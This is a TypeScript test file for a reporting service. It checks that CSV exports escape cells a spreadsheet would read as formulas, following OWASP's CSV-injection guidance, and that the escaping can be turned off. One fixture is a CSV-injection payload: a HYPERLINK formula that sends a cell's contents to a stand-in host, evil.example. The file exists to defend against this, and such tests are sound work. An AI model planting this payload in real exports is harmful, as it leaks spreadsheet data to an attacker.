/**
 * CSV exports defuse spreadsheet formulas (OWASP's CSV injection guidance): a text cell that
 * starts with =, +, -, @, tab or carriage return gets a leading `'`, so a pulled issue titled
 * `=HYPERLINK(…)` opens as text, while numbers stay numbers. A report can turn it off.
 */
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { deliver, recordMessage } from "../support/queue.ts";
import { buildUpTo, declareReport } from "../support/reports.ts";
import { getWithReportToken } from "../support/worker.ts";

const get = getWithReportToken;

const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
// Issue number → title, as the GitHub pull loads them (in 2042, so no other test's issues share the page).
const titles: [number, string][] = [
  [-5, "A negative issue number stays a number"],
  [9001, hyperlink],
  [9002, "+1+2"],
  [9003, "-2+3"],
  [9004, "@SUM(1;2)"],
  [9005, "\tcmd"],
  [9006, "\r=1+1"],
  [9007, "=1+1\nsecond line"],
  [9008, "Plain title, with = later on"],
];

/** The open_issues report over this file's issues as CSV rows (header first), by issue number. */
async function csvRows(report: string): Promise<string[][]> {
  const response = await get(`/v1/reports/${report}?since=2042-01-01T00:00:00Z&sort=number&format=csv`);
  expect(response.status).toBe(200);
  return Papa.parse<string[]>((await response.text()).trimEnd(), { header: false }).data;
}

beforeAll(async () => {
  const result = await deliver(
    titles.map(([number, title], i) =>
      recordMessage(
        `csv-${number}`,
        { id: 700_000 + i, number, title, state: "open", updated_at: `2042-01-0${i + 1}T00:00:00Z` },
        { source: "github_api", stream: "issues" },
      ),
    ),
  );
  expect(result.explicitAcks).toHaveLength(titles.length);
  await buildUpTo("open_issues");
});

describe("report CSV: formula escaping", () => {
  it("prefixes every text cell that a spreadsheet would read as a formula with a quote, and keeps numbers", async () => {
    const [header, ...rows] = await csvRows("open_issues");
    expect(header).toEqual(["issue_id", "number", "title", "updated_at"]);
    expect(rows.map((row) => [row[1], row[2]])).toEqual([
      ["-5", "A negative issue number stays a number"],
      ["9001", `'${hyperlink}`],
      ["9002", "'+1+2"],
      ["9003", "'-2+3"],
      ["9004", "'@SUM(1;2)"],
      ["9005", "'\tcmd"],
      ["9006", "'\r=1+1"],
      ["9007", "'=1+1\nsecond line"],
      ["9008", "Plain title, with = later on"],
    ]);
  });

  it("leaves JSON as it was loaded", async () => {
    const response = await get("/v1/reports/open_issues?since=2042-01-01T00:00:00Z&sort=number");
    const body = (await response.json()) as { rows: { number: number; title: string }[] };
    expect(body.rows.find((row) => row.number === 9001)?.title).toBe(hyperlink);
    expect(body.rows.find((row) => row.number === -5)?.number).toBe(-5);
  });
});

describe("report CSV: a report that turns escaping off", () => {
  declareReport("open_issues_unescaped", {
    description: "Open issues, CSV exactly as stored",
    model: "open_issues",
    params: { since: { schema: z.iso.datetime().optional(), column: "updated_at", op: ">=" } },
    sort: ["number"],
    key: ["issue_id"],
    csv: { escapeFormulas: false },
  });

  it("serves the titles unchanged", async () => {
    const [, ...rows] = await csvRows("open_issues_unescaped");
    expect(rows.find((row) => row[1] === "9001")?.[2]).toBe(hyperlink);
    expect(rows.find((row) => row[1] === "9002")?.[2]).toBe("+1+2");
  });
});
